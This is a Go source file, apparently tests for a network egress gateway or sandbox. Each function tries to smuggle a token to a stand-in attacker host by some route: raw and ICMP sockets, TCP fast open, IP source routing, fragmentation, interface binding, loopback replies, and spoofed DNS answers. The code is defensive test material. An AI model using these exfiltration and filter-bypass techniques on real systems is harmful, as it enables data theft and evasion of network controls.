package gateway

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"syscall"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// The numbers of sockets that Go's own packages do not make.
const (
	afInet     = unix.AF_INET
	afPacket   = unix.AF_PACKET
	afXDP      = unix.AF_XDP
	sockStream = unix.SOCK_STREAM
	sockDgram  = unix.SOCK_DGRAM
	sockRaw    = unix.SOCK_RAW
)

// notHere tells what the kernel has no means for from what it refuses.
func notHere(err error) error {
	if errors.Is(err, unix.EPROTONOSUPPORT) || errors.Is(err, unix.ESOCKTNOSUPPORT) || errors.Is(err, unix.EAFNOSUPPORT) {
		return errNotHere
	}
	return err
}

// socketTry makes a socket that takes a capability.
func socketTry(what string, family, kind, protocol int) try {
	return try{what: what, want: refusedByKernel, do: func(*attempt) error {
		fd, err := unix.Socket(family, kind|unix.SOCK_CLOEXEC, protocol)
		if err != nil {
			return notHere(err)
		}
		return unix.Close(fd)
	}}
}

// protocolTry sends the token to evil.test's address by another protocol.
func protocolTry(what string, kind, protocol int) try {
	return try{what: what, want: denied(), do: func(a *attempt) error {
		fd, err := unix.Socket(unix.AF_INET, kind|unix.SOCK_CLOEXEC, protocol)
		if err != nil {
			return notHere(err)
		}
		defer unix.Close(fd)
		wait := unix.Timeval{Sec: 1}
		_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &wait)
		_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &wait)
		if err := unix.Connect(fd, &unix.SockaddrInet4{Port: 8080, Addr: [4]byte{198, 51, 100, 66}}); err != nil {
			return err
		}
		if _, err := unix.Write(fd, []byte(a.token+"\r\n")); err != nil {
			return err
		}
		if kind != sockStream {
			return nil
		}
		n, err := unix.Read(fd, make([]byte, 64))
		if err == nil && n == 0 {
			return errNoEcho
		}
		return err
	}}
}

func setOwnMark() error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_MARK, ownMark)
}

// command is a program that must fail.
func command(what string, argv ...string) try {
	return try{what: what, want: refusedByKernel, do: func(a *attempt) error {
		out, err := exec.CommandContext(a.ctx, argv[0], argv[1:]...).CombinedOutput()
		if err != nil {
			return fmt.Errorf("%w: %s", err, out)
		}
		return nil
	}}
}

func writeTry(path, text string) try {
	return try{what: "writing " + path, want: refusedByKernel, do: func(*attempt) error { return os.WriteFile(path, []byte(text), 0) }}
}

// ping sends the token in an echo request, by the socket that needs no
// capability.
func (a *attempt) ping(address string) error {
	to := netip.MustParseAddr(address)
	family, protocol, kind := unix.AF_INET, unix.IPPROTO_ICMP, byte(8)
	if to.Is6() {
		family, protocol, kind = unix.AF_INET6, unix.IPPROTO_ICMPV6, 128
	}
	fd, err := unix.Socket(family, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, protocol)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1})
	if err := unix.Sendto(fd, append([]byte{kind, 0, 0, 0, 0, 1, 0, 1}, a.token...), 0, sockaddr(netip.AddrPortFrom(to, 0))); err != nil {
		return err
	}
	_, _, err = unix.Recvfrom(fd, make([]byte, 256), 0)
	return err
}

func sockaddr(a netip.AddrPort) unix.Sockaddr {
	if a.Addr().Is6() {
		return &unix.SockaddrInet6{Port: int(a.Port()), Addr: a.Addr().As16()}
	}
	return &unix.SockaddrInet4{Port: int(a.Port()), Addr: a.Addr().As4()}
}

// controlled dials with something set on the socket before.
func controlled(ctx context.Context, network, address string, set func(fd int) error) (net.Conn, error) {
	d := net.Dialer{Control: func(_, _ string, c syscall.RawConn) error {
		var setErr error
		err := c.Control(func(fd uintptr) { setErr = set(int(fd)) })
		return errors.Join(err, setErr)
	}}
	return d.DialContext(ctx, network, address)
}

// rawProtocol sends the token in a packet of a protocol by its number.
func (a *attempt) rawProtocol(number int) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, number)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.Sendto(fd, []byte(a.token), 0, &unix.SockaddrInet4{Addr: [4]byte{198, 51, 100, 66}})
}

// fastOpen sends the token with the first packet, if the kernel lets it.
func (a *attempt) fastOpen(to [4]byte, port int) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1})
	if err := unix.Sendto(fd, []byte(a.token+"\r\n"), unix.MSG_FASTOPEN, &unix.SockaddrInet4{Port: port, Addr: to}); err != nil {
		return err
	}
	n, err := unix.Read(fd, make([]byte, 64))
	if err == nil && n == 0 {
		return errNoEcho
	}
	return err
}

// sourceRoute sends a datagram that asks to be led on.
func (a *attempt) sourceRoute(by, to [4]byte) error {
	option := append(append([]byte{0x83, 11, 4}, by[:]...), append(to[:], 0)...)
	conn, err := controlled(a.ctx, "udp4", fmt.Sprintf("%d.%d.%d.%d:443", to[0], to[1], to[2], to[3]), func(fd int) error {
		return unix.SetsockoptString(fd, unix.IPPROTO_IP, unix.IP_OPTIONS, string(option))
	})
	if err != nil {
		return err
	}
	defer conn.Close()
	_, err = conn.Write([]byte(a.token))
	return err
}

// fragments sends a datagram that no packet can hold, with the token in every
// part of it.
func (a *attempt) fragments(address string) error {
	conn, err := new(net.Dialer).DialContext(a.ctx, "udp4", address)
	if err != nil {
		return err
	}
	defer conn.Close()
	var text []byte
	for len(text) < 8000 {
		text = append(text, a.token...)
	}
	_, err = conn.Write(text)
	return err
}

// bound sends the token from a socket that is bound to the interface outwards,
// which takes no capability.
func (a *attempt) bound(network, address string) error {
	ctx, cancel := context.WithTimeout(a.ctx, 500*time.Millisecond)
	defer cancel()
	conn, err := controlled(ctx, network, address, func(fd int) error { return unix.BindToDevice(fd, "eth0") })
	if err != nil {
		return err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(500 * time.Millisecond))
	if _, err := conn.Write([]byte(a.token)); err != nil {
		return err
	}
	_, err = conn.Read(make([]byte, 512))
	return err
}

// answerOut answers a datagram that came over the loopback, by the way out: the
// kernel knows that pair of addresses and ports.
func (a *attempt) answerOut(network, host string) error {
	to, err := net.ListenPacket(network, net.JoinHostPort(host, "0"))
	if err != nil {
		return err
	}
	defer to.Close()
	from, err := net.Dial(network, to.LocalAddr().String())
	if err != nil {
		return err
	}
	defer from.Close()
	if _, err := from.Write([]byte("first")); err != nil {
		return err
	}
	_ = to.SetReadDeadline(time.Now().Add(time.Second))
	if _, _, err := to.ReadFrom(make([]byte, 16)); err != nil {
		return err
	}
	raw, err := to.(*net.UDPConn).SyscallConn()
	if err != nil {
		return err
	}
	var bindErr error
	if err := raw.Control(func(fd uintptr) { bindErr = unix.BindToDevice(int(fd), "eth0") }); err != nil || bindErr != nil {
		return errors.Join(err, bindErr)
	}
	if _, err := to.WriteTo([]byte(a.token), from.LocalAddr()); err != nil {
		return err
	}
	return errors.New("nobody answers there")
}

// settleAttempt is the lab's own packet, which no rule holds back.
func settleAttempt(a *attempt) error {
	conn, err := controlled(a.ctx, "udp4", "198.51.100.53:9999", func(fd int) error {
		return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_MARK, ownMark)
	})
	if err != nil {
		return err
	}
	defer conn.Close()
	_, err = conn.Write([]byte(a.token))
	return err
}

// impersonate waits where the engine's resolver seems to be, sends from there to
// every port from which the gateway may ask, so that the kernel takes a question
// for the answer to that, and says that name is at evil.test's address.
func (a *attempt) impersonate(name string) error {
	conn, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 11), Port: 53})
	if err != nil {
		return err
	}
	defer conn.Close()
	for port := 32768; port < 61000; port++ {
		_, _ = conn.WriteToUDPAddrPort([]byte(a.token), netip.AddrPortFrom(ownLoopback, uint16(port)))
	}
	go func() {
		b := make([]byte, 512)
		for {
			n, from, err := conn.ReadFromUDP(b)
			if errors.Is(err, net.ErrClosed) {
				return
			}
			q := new(dns.Msg)
			if err != nil || q.Unpack(b[:n]) != nil || len(q.Question) != 1 {
				continue
			}
			m := new(dns.Msg).SetReply(q)
			m.Answer = records(q.Question[0].Name, dns.TypeA, "198.51.100.66")
			if text, err := m.Pack(); err == nil {
				_, _ = conn.WriteToUDP(text, from)
			}
		}
	}()
	return a.raw(name+":5432", "")
}
